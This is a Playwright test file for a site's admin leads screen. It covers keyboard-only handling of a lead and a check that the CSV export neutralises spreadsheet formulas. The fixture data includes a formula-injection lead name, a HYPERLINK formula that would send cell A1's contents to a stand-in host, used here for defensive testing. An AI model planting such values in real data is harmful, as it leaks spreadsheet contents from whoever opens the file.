import { type ApplicationWire, exportPaths, paths } from '@site/contract';
import type { Page } from '@playwright/test';
import ExcelJS from 'exceljs';
import { createReadStream } from 'node:fs';
import { openScreen } from '../fixtures/adminScreens';
import { callApi, sendLead } from '../fixtures/api';
import { pressByKeyboard, tabTo } from '../fixtures/keyboard';
import { admin } from '../fixtures/siteFixture';
import { expect, test } from '../fixtures/test';

test.use({ contextOptions: { reducedMotion: 'reduce' } });
test.beforeEach(({ signInAsAdmin }) => signInAsAdmin());

const region = (page: Page, name: string) => page.getByRole('region', { name, exact: true });

test('with the keyboard alone an admin finds a lead that has just come in, works it, and answers', async ({
  page,
  site,
  complaints,
}) => {
  const family = {
    name: 'Keziah Tabler',
    email: 'keziah@tabler.example',
    message: 'Sport: Golf\nContact number: 020 7946 0789\nAbout: She plays off six.',
  };
  const button = (name: string) => page.getByRole('button', { name, exact: true });
  await page.clock.install();
  await openScreen(page, paths.adminLeads.to());
  const search = page.getByLabel('Search leads');
  await tabTo(page, search);
  await page.keyboard.type('keziah');
  await expect(page.getByText('No leads match your search.')).toBeVisible();
  await sendLead(site, 'applications', family);
  // Open lists ask every half minute.
  await page.clock.fastForward('00:31');
  await expect(page.getByText('1 lead', { exact: true })).toBeVisible();
  await expect(search).toBeFocused();

  await pressByKeyboard(page, page.getByRole('link', { name: family.name, exact: true }));
  await expect(page.getByRole('heading', { level: 1, name: family.name })).toBeFocused();
  const call = page.getByRole('link', { name: `Call ${family.name}` });
  await expect(call).toHaveAttribute('href', 'tel:02079460789');
  await pressByKeyboard(page, button('Call booked'));
  await expect(page.getByRole('button', { name: 'Call booked', pressed: true })).toBeFocused();
  const people = region(page, 'Looked after by');
  await pressByKeyboard(page, people.getByRole('button', { name: 'Me', exact: true }));
  await expect(people.getByRole('button', { name: 'Me', exact: true, pressed: true })).toBeVisible();
  await tabTo(page, page.getByLabel('What comes next', { exact: true }));
  await page.keyboard.type('Call her mother');
  // A day has three parts in the order of the locale.
  await page.getByLabel('By', { exact: true }).fill('2025-12-03');
  await page.keyboard.press('Enter');
  await tabTo(page, page.getByLabel('New note', { exact: true }));
  await page.keyboard.type('She asked for the evening.');
  await pressByKeyboard(page, button('Add note'));
  await expect(region(page, 'Notes').getByRole('listitem')).toContainText([admin.email]);
  await expect(region(page, 'History').getByRole('listitem')).toContainText([
    'Added a note',
    'Next step: Call her mother (by 3 Dec 2025)',
    `Given to ${admin.email}`,
    'Moved from New to Call booked',
  ]);

  const reply = region(page, 'Reply');
  await pressByKeyboard(page, reply.getByRole('button', { name: 'Thank you, let us talk', exact: true }));
  await expect(reply.getByLabel('Your reply', { exact: true })).toHaveValue(/^Dear Keziah,/);
  await tabTo(page, reply.getByLabel('Your reply', { exact: true }));
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' Maya');
  // The site of the journeys has no mail server: this is the last step of a reply.
  await expect(reply.getByText(/^No mail server is set up/)).toBeVisible();
  const program = reply.getByRole('link', { name: 'Open in my mail program', exact: true });
  await tabTo(page, program);
  await expect(program).toHaveAttribute('href', /^mailto:keziah@tabler\.example\?subject=.*%20Maya$/);

  await pressByKeyboard(page, page.getByRole('link', { name: 'All leads', exact: true }));
  await pressByKeyboard(page, button('Leave'));
  await expect(page.getByRole('heading', { level: 1, name: 'Leads', exact: true })).toBeFocused();
  await page.getByRole('link', { name: /^Call booked/ }).press('Enter');
  await expect(page).toHaveURL(/\?state=call_booked$/);
  const filters = page.getByRole('navigation', { name: 'More filters' });
  for (const name of ['Applications', 'Mine', 'Next step due']) {
    await filters.getByRole('link', { name }).press('Enter');
    await expect(filters.getByRole('link', { name })).toHaveAttribute('aria-current', 'true');
  }
  await expect(page).toHaveURL(/state=call_booked&kind=application&assignee=me&due=today$/);
  await expect(page.getByRole('row', { name: family.name })).toContainText('Call her mother · 3 Dec 2025');
  expect(complaints).toEqual([]);
});

const LETTERS: readonly Parameters<typeof sendLead>[2][] = [
  {
    name: 'Zoë 🏌️‍♀️ O’Hara',
    email: 'zoe@letters.example',
    message: 'She says "hello", twice; 👨‍👩‍👧',
    grad_year: 2027,
  },
  {
    name: '=HYPERLINK("https://x.example?"&A1,"click")',
    email: 'formula@letters.example',
    message: '=1+1\r\n+2\r\n\r\nthird line',
  },
];

/** The rows as a spreadsheet shows them. */
async function readRows(file: string): Promise<string[][]> {
  // Every cell as text: exceljs would turn numeric text into a number.
  const sheet = await new ExcelJS.Workbook().csv.read(createReadStream(file), {
    map: (text: string) => text,
  });
  const rows: string[][] = [];
  // Cells count from 1.
  sheet.eachRow((row) => rows.push((row.values as string[]).slice(1)));
  return rows;
}

/** docs/product.md#csv-content: text that a spreadsheet would take for a formula starts with an apostrophe. */
const asText = (text: string): string => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

test('a spreadsheet has every character of all applications', async ({ page, context, request, site }) => {
  for (const letter of LETTERS) await sendLead(site, 'applications', letter);
  await openScreen(page, paths.adminApplications.to());
  const [download] = await Promise.all([
    // Playwright reports it for the file's own tab or for this one, whichever it knows at that moment.
    context.waitForEvent('download'),
    page.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  expect(download.url()).toBe(site.origin + exportPaths.applications);
  expect(download.suggestedFilename()).toMatch(/^applications-\d{4}-\d\d-\d\d\.csv$/);
  const [head, ...rows] = await readRows(await download.path());
  const stored = (await (await callApi(site, 'GET /applications')).json()) as ApplicationWire[];
  expect(head).toEqual(['name', 'email', 'grad_year', 'message', 'created_at']);
  expect(rows).toEqual(
    stored.map((row) =>
      [row.name, row.email, String(row.grad_year ?? ''), row.message, row.created_at].map(asText),
    ),
  );
  expect(rows.map(([name]) => name)).toEqual(expect.arrayContaining(LETTERS.map(({ name }) => asText(name))));
  expect((await request.get(site.origin + exportPaths.applications)).status()).toBe(401);
});
